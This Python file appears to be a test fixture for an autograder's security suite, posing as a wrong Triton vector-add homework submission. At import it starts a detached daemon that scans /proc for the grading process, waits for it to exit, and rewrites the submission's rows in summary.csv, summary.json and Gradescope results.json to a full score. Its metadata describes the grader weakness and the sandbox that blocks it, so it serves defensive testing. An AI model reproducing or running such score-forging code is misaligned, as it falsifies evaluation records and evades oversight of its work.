"""Hostile submission, class batch (exercise 1): the score forger.

A wrong vector add (x - y) that, at import, starts a detached daemon (`setsid`, through
subprocess's start_new_session) that outlives grading: it finds the batch's output folder on the
`grade` process's command line, waits until that process has written everything and exited, then
rewrites its own row of summary.csv, its entry in summary.json and its Gradescope results.json
to a full score.

Today the learner's process can start processes that the grader never waits for nor kills, and
the output folder is writable by every process of the run.
"""

import os
import subprocess
import sys
from pathlib import Path

import torch
import triton
import triton.language as tl

ATTACK = ("starts a setsid daemon at import that waits for the `grade batch` process to exit, then rewrites its "
          "own summary.csv row, summary.json entry and Gradescope results.json to a full score; x - y underneath")
KIND = "batch"
WRONG_UNDERNEATH = True
#: What a static check of this file can name (empty: nothing it can see).
STATIC_FLAGS = ("subprocess", "/proc")
REJECTED_BY = ("the sandbox: every process a submission starts dies with it (process group, PR_SET_PDEATHSIG, no "
               "setsid escape) and the output folder is written by the judge only; its wrong kernel fails the "
               "judge's comparison")
#: The class folder the batch runs on: this file and its classmates (paths in the repository).
CLASS = {"a_forger.py": None, "b_honest.py": "solutions/ex01_vector_add.py"}
#: What today's grader lets happen (checked by run_today.py).
TODAY = "forges_score"
#: Seconds run_today.py waits after the batch exits, for the daemon to finish its work.
SETTLE_SECONDS = 8

#: The daemon, as a program: wait for the grade process to end, then rewrite this file's results.
DAEMON = r'''
import csv, json, os, sys, time

grade_pid, out, name = int(sys.argv[1]), sys.argv[2], sys.argv[3]
deadline = time.time() + 300  # never outlive this by more than five minutes


def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


while alive(grade_pid) and time.time() < deadline:
    time.sleep(0.2)
time.sleep(0.5)
stem = name[:-3]
path = os.path.join(out, "summary.csv")
if os.path.isfile(path):
    with open(path, newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        if row["file"] == name:
            row.update(passed="True", score=row["max_score"], checks_passed=row["checks_counted"],
                       checks_not_run="0", first_failure="")
    with open(path, "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
path = os.path.join(out, "summary.json")
if os.path.isfile(path):
    with open(path) as f:
        summary = json.load(f)
    for sub in summary["submissions"]:
        if os.path.basename(sub["file"]) == name:
            sub.update(passed=True, score=sub["max_score"], checks_passed=sub["checks_counted"], first_failure="")
            if sub.get("result"):
                sub["result"]["passed"] = True
                for check in sub["result"]["checks"]:
                    if not check["skipped"]:
                        check.update(passed=True, message="", kind="ok")
    summary["passed"] = sum(1 for s in summary["submissions"] if s["passed"])
    with open(path, "w") as f:
        json.dump(summary, f, indent=1)
for path in (os.path.join(out, "results.json"), os.path.join(out, "gradescope", stem + ".results.json")):
    if os.path.isfile(path):
        with open(path) as f:
            result = json.load(f)
        for test in result["tests"]:
            test.update(score=test.get("max_score", 0.0), status="passed", output="all cases passed.")
        result["score"] = round(sum(t.get("max_score", 0.0) for t in result["tests"]), 2)
        result["output"] = result["output"].replace("FAILED", "PASSED")
        with open(path, "w") as f:
            json.dump(result, f, indent=1)
'''


def _parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _grade_process():
    """(pid, argv, cwd) of the nearest ancestor that is the `grade` command, or None."""
    pid = os.getppid()
    for _ in range(8):
        if pid <= 1:
            return None
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            return None
        if "grader.commands.cli" in argv or any(a.endswith("/grade") for a in argv):
            return pid, argv, cwd
        pid = _parent_of(pid)
    return None


def _out_folder(argv: list, cwd: str) -> str | None:
    if "--out" in argv:
        return str(Path(cwd) / argv[argv.index("--out") + 1])
    return None  # the default folder has a timestamp in its name; a patient daemon would wait for it


def _start_daemon() -> None:
    found = _grade_process()
    if found is None or "batch" not in found[1]:
        return
    pid, argv, cwd = found
    out = _out_folder(argv, cwd)
    if out is None:
        return
    subprocess.Popen([sys.executable, "-c", DAEMON, str(pid), out, Path(__file__).name],
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, close_fds=True)


_start_daemon()


@triton.jit
def sub_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask).to(tl.float32)
    y = tl.load(y_ptr + offsets, mask=mask).to(tl.float32)
    # WRONG on purpose: x - y, not x + y. Only a forged score gives it 100.
    tl.store(out_ptr + offsets, (x - y).to(out_ptr.dtype.element_ty), mask=mask)


def add(x, y):
    out = torch.empty_like(x)
    n = out.numel()
    sub_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)
    return out
